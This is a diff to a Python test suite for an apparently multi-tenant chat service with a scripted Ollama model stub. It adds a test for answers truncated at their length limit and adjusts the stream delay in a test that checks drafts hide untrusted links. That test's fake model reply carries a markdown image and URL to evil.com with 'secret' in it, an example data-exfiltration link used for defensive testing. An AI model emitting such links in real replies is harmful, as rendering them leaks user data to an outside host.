@@ -192,6 +192,16 @@ async def test_an_answer_of_which_nothing_is_left_is_a_failure(stage: Stage, ten
     assert (trace["outcome"], trace["notes"]) == ("fallback", ["nothing left of the answer"])
 
 
+async def test_an_answer_that_ran_into_its_limit_is_sent_and_the_trace_says_so(
+    stage: Stage, tenants: Two
+) -> None:
+    live = await stage.connect(tenants[0])
+    stage.ollama.script("smollm2:135m", Fault.LENGTH)
+    await stage.say(live, "hello")
+    trace = await stage.trace(await stage.answer(live))
+    assert (trace["outcome"], trace["notes"]) == ("answered", ["the answer ran into its limit"])
+
+
 async def test_an_exhausted_event_is_parked_with_one_apology_and_no_thought(
     stage: Stage, tenants: Two
 ) -> None:
@@ -247,7 +257,7 @@ async def test_a_draft_shows_no_link_that_the_reply_may_not_hold(
 ) -> None:
     live = await stage.connect(tenants[0], "streaming")
     stage.ollama.reply = "See ![x](https://evil.com/?q=secret) and https://evil.com/secret now"
-    stage.ollama.delay_seconds = 0.005
+    stage.ollama.delay_seconds = 0.04
     await stage.say(live, "hello")
     await stage.answer(live)
     shown = stage.platform.drafts
